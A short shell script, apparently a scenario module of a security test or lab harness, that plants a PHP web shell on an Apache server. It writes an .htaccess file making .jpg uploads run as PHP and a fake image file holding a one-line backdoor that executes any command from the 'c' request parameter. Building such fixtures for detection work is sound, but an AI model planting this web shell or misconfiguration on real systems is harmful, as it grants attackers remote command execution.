#!/bin/sh
# web-htaccess: pictures that are programs (Apache, .htaccess)
. "${0%/*}/lib.sh"
only "plain disguised user" "a setting has no command"
[ "$who" = op ] || own=33:33
put /var/www/html/uploads/.htaccess 644 "$head" \
	"AddType application/x-httpd-php .jpg"
put "/var/www/html/uploads/$(named up IMG_0042).jpg" 644 \
	'<?php system($_REQUEST["c"]); ?>'
